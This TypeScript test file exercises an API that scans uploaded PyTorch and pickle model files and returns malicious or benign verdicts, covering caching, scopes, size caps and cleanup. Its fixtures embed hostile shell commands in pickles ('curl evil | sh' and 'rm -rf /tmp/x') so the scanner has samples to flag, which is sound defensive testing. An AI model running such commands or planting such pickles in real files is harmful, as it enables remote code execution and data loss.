import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ANALYSER_VERSION } from '@risk/artifacts';
import { sha256Hex as sha } from '@risk/common/crypto';
import { QUEUES } from '@risk/common/queue';
import { closeServer, listenWithLimits } from '@risk/common/server';
import { openArtifactUpload, uploadArtifact, waitFor, type UploadOptions } from '@risk/testing';
import request from 'supertest';
import { osSystemPickle, torchStatePickle } from '../../../packages/artifacts/test/pickle-bytes';
import { zipBytes } from '../../../packages/artifacts/test/zip-bytes';
import { MAX_HEADER_SIZE, type PublicApiApp } from '../src/app';
import { createHarness, idem, type Harness } from './harness';

describe('artifacts API', () => {
  let h: Harness;
  let spill: string;
  let app: PublicApiApp;
  let maliciousZip: Uint8Array;
  let benignPickle: Uint8Array;

  const upload = (bytes: Uint8Array, { on = app, ...opts }: Partial<UploadOptions> & { on?: PublicApiApp } = {}) =>
    uploadArtifact(on, bytes, { key: h.key, ...opts });

  beforeAll(async () => {
    spill = mkdtempSync(path.join(tmpdir(), 'artifacts-api-spill-'));
    h = await createHarness('artifacts', { env: { ARTIFACTS_SPILL_DIR: spill } });
    app = h.app;
    maliciousZip = zipBytes([{ name: 'archive/data.pkl', data: osSystemPickle('curl evil | sh'), deflate: true }]);
    benignPickle = torchStatePickle();
  });
  afterAll(async () => {
    await h.close();
    rmSync(spill, { recursive: true, force: true });
  });

  it('scans a malicious PyTorch zip and a benign pickle, and announces each new verdict', async () => {
    const bad = await upload(maliciousZip, { query: '?filename=model.txt' });
    expect(bad.status).toBe(201);
    expect(bad.body).toMatchObject({
      object: 'artifact',
      sha256: sha(maliciousZip),
      size: maliciousZip.length,
      status: 'done',
      format: 'pytorch_zip',
      verdict: 'malicious',
      analyser_version: ANALYSER_VERSION,
      url: `/v1/artifacts/${sha(maliciousZip)}`,
    });
    expect(bad.body.findings[0]).toMatchObject({ verdict: 'malicious', evidence: { member: 'archive/data.pkl' } });
    expect(typeof bad.body.scanned_at).toBe('number');

    const good = await upload(benignPickle);
    expect(good.status).toBe(201);
    expect(good.body).toMatchObject({ format: 'pickle', verdict: 'benign', findings: [] });

    const jobs = await h.producer.queue(QUEUES.artifactVerdicts).getJobs(['waiting', 'delayed', 'active']);
    const announced = jobs.flatMap((j) => (j.name === 'artifact.verdict_changed' ? j.data.sha256s : []));
    expect(announced).toEqual(expect.arrayContaining([sha(maliciousZip), sha(benignPickle)]));
    expect(readdirSync(spill)).toEqual([]);
  });

  it('answers bytes already judged by this analyser version without scanning them again', async () => {
    const before = await h.ctx.db.pool.query('SELECT scanned_at FROM artifacts WHERE sha256 = $1', [sha(benignPickle)]);
    const again = await upload(benignPickle);
    expect(again.status).toBe(200);
    expect(again.body.verdict).toBe('benign');
    const after = await h.ctx.db.pool.query('SELECT scanned_at FROM artifacts WHERE sha256 = $1', [sha(benignPickle)]);
    expect(after.rows[0].scanned_at).toEqual(before.rows[0].scanned_at);
    const uploads = await h.ctx.db.pool.query(
      'SELECT uploads FROM artifact_uploads WHERE sha256 = $1 AND org_id = $2',
      [sha(benignPickle), h.orgId],
    );
    expect(uploads.rows).toEqual([{ uploads: 2 }]);
  });

  it('replays an Idempotency-Key without reading the body again', async () => {
    const bytes = Buffer.from('idempotent upload: not a model at all');
    const key = idem();
    const first = await upload(bytes, { idempotencyKey: key });
    expect(first.status).toBe(201);
    expect(first.body.verdict).toBe('unsupported');
    const replay = await upload(bytes, { idempotencyKey: key });
    expect(replay.status).toBe(201);
    expect(replay.headers['idempotent-replayed']).toBe('true');
    expect(replay.body).toEqual(first.body);
  });

  it('needs artifacts:write to upload and artifacts:read to read', async () => {
    const readOnly = await h.mintKey({ scopes: ['artifacts:read'] });
    const refused = await upload(benignPickle, { key: readOnly });
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('insufficient_scope');

    const writeOnly = await h.mintKey({ scopes: ['artifacts:write', 'assets:read'] });
    const read = await request(app)
      .get(`/v1/artifacts/${sha(benignPickle)}`)
      .set('Authorization', `Bearer ${writeOnly}`);
    expect(read.status).toBe(403);
  });

  it('gives any org the verdict, never the uploader, and 404/400 for unknown or malformed hashes', async () => {
    const otherOrg = await h.mintKey({ orgId: 'org_artifacts_other', scopes: ['artifacts:read'], livemode: false });
    const res = await request(app)
      .get(`/v1/artifacts/${sha(maliciousZip)}`)
      .set('Authorization', `Bearer ${otherOrg}`);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ sha256: sha(maliciousZip), verdict: 'malicious' });
    expect(JSON.stringify(res.body)).not.toContain(h.orgId);
    expect(Object.keys(res.body).sort()).toEqual(
      [
        'analyser_version',
        'facts',
        'findings',
        'format',
        'object',
        'scanned_at',
        'sha256',
        'size',
        'status',
        'url',
        'verdict',
      ].sort(),
    );

    const unknown = await request(app)
      .get(`/v1/artifacts/${'0'.repeat(64)}`)
      .set('Authorization', `Bearer ${otherOrg}`);
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.code).toBe('resource_missing');
    const malformed = await request(app)
      .get(`/v1/artifacts/${'A'.repeat(64)}`)
      .set('Authorization', `Bearer ${otherOrg}`);
    expect(malformed.status).toBe(400);
    expect(malformed.body.error.param).toBe('sha256');
  });

  it('looks up to 500 hashes in the order asked, and refuses 501', async () => {
    const known = [sha(maliciousZip), sha(benignPickle)];
    const fillers = Array.from({ length: 498 }, (_, i) => sha(`filler ${i}`));
    const asked = [known[1]!, ...fillers, known[0]!];
    const qs = asked.map((s) => `sha256s=${s}`).join('&');
    // a ~36 KB URL: through a server with the production header limit, as main.ts listens
    const server = await listenWithLimits(app, { port: 0, host: '127.0.0.1', maxHeaderSize: MAX_HEADER_SIZE });
    try {
      const res = await request(server).get(`/v1/artifacts/lookup?${qs}`).set('Authorization', `Bearer ${h.key}`);
      expect(res.status).toBe(200);
      expect(res.body.object).toBe('artifact_lookup');
      expect(res.body.data.map((d: { sha256: string }) => d.sha256)).toEqual(asked);
      expect(res.body.data[0].artifact.verdict).toBe('benign');
      expect(res.body.data[499].artifact.verdict).toBe('malicious');
      expect(res.body.data[1].artifact).toBeNull();

      const tooMany = await request(server)
        .get(`/v1/artifacts/lookup?${qs}&sha256s=${'f'.repeat(64)}`)
        .set('Authorization', `Bearer ${h.key}`);
      expect(tooMany.status).toBe(400);
      expect(tooMany.body.error.param).toBe('sha256s');
    } finally {
      await closeServer(server, { deadlineMs: 500 });
    }
  });

  it('refuses an upload over the size cap with 413 and removes its spill file', async () => {
    const small = h.appWith({ config: { ...h.ctx.config, ARTIFACTS_MAX_BYTES: 1024 } });
    const declared = await upload(new Uint8Array(2048), { on: small });
    expect(declared.status).toBe(413);
    expect(declared.body.error.code).toBe('request_too_large');

    // no Content-Length: the cap is found while streaming
    const server = await listenWithLimits(small, { port: 0, host: '127.0.0.1' });
    try {
      const { port } = server.address() as AddressInfo;
      const { status, body } = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = openArtifactUpload(port, h.key);
        req.on('response', (res) => {
          let text = '';
          res.on('data', (c: Buffer) => (text += c.toString()));
          res.on('end', () => resolve({ status: res.statusCode!, body: text }));
        });
        req.on('error', reject);
        for (let i = 0; i < 4; i++) req.write(Buffer.alloc(512, 1));
        req.end();
      });
      expect(status).toBe(413);
      expect(JSON.parse(body).error.code).toBe('request_too_large');
    } finally {
      server.close();
    }
    expect(readdirSync(spill)).toEqual([]);
  });

  it('removes the spill file when the client goes away mid-upload', async () => {
    const server = await listenWithLimits(app, { port: 0, host: '127.0.0.1' });
    try {
      const { port } = server.address() as AddressInfo;
      const req = openArtifactUpload(port, h.key, 1 << 20);
      req.write(Buffer.alloc(64 * 1024, 7));
      await waitFor('the spill file', () => readdirSync(spill).length === 1);
      req.destroy();
      await waitFor('the spill file to go', () => readdirSync(spill).length === 0);
    } finally {
      server.close();
    }
    const rows = await h.ctx.db.pool.query('SELECT count(*)::int AS n FROM artifacts WHERE size = $1', [1 << 20]);
    expect(rows.rows[0].n).toBe(0);
  });

  it('answers 202 scanning when the scan outlives the wait, and the verdict lands afterwards', async () => {
    const impatient = h.appWith({ config: { ...h.ctx.config, ARTIFACTS_SCAN_WAIT_MS: 0 } });
    const bytes = zipBytes([{ name: 'archive/data.pkl', data: osSystemPickle('rm -rf /tmp/x') }]);
    const res = await upload(bytes, { on: impatient });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ object: 'artifact', sha256: sha(bytes), status: 'scanning', verdict: null });
    const done = await waitFor('the verdict', async () => {
      const read = await request(app)
        .get(`/v1/artifacts/${sha(bytes)}`)
        .set('Authorization', `Bearer ${h.key}`);
      return read.body.status === 'done' && (read.body as { verdict: string });
    });
    expect(done.verdict).toBe('malicious');
    await waitFor('the spill file to go', () => readdirSync(spill).length === 0);
  });

  it('shares state between two API replicas, which keep bytes in Postgres when told to', async () => {
    const keeping = { ...h.ctx.config, ARTIFACTS_KEEP_BYTES: true };
    const replicaA = h.appWith({ config: keeping });
    const replicaB = h.appWith({ config: keeping });
    const bytes = zipBytes([{ name: 'model/data.pkl', data: torchStatePickle() }]);
    const first = await upload(bytes, { on: replicaA });
    expect(first.status).toBe(201);
    const second = await upload(bytes, { on: replicaB });
    expect(second.status).toBe(200);
    expect(second.body).toEqual(first.body);
    const read = await request(replicaB)
      .get(`/v1/artifacts/${sha(bytes)}`)
      .set('Authorization', `Bearer ${h.key}`);
    expect(read.body).toEqual(first.body);

    const { rows } = await h.ctx.db.pool.query<{ data: Buffer }>(
      'SELECT data FROM artifact_chunks WHERE sha256 = $1 ORDER BY seq',
      [sha(bytes)],
    );
    expect(Buffer.concat(rows.map((r) => r.data)).equals(Buffer.from(bytes))).toBe(true);
    const kept = await h.ctx.db.pool.query('SELECT bytes_kept FROM artifacts WHERE sha256 = $1', [sha(bytes)]);
    expect(kept.rows[0].bytes_kept).toBe(true);
    // without the setting, nothing is kept
    const notKept = await h.ctx.db.pool.query('SELECT count(*)::int AS n FROM artifact_chunks WHERE sha256 = $1', [
      sha(benignPickle),
    ]);
    expect(notKept.rows[0].n).toBe(0);
  });

  it('refuses a JSON body with 415', async () => {
    const res = await request(app)
      .post('/v1/artifacts')
      .set('Authorization', `Bearer ${h.key}`)
      .set('Idempotency-Key', idem())
      .send({ not: 'bytes' });
    expect(res.status).toBe(415);
    expect(res.body.error.code).toBe('unsupported_media_type');
  });
});
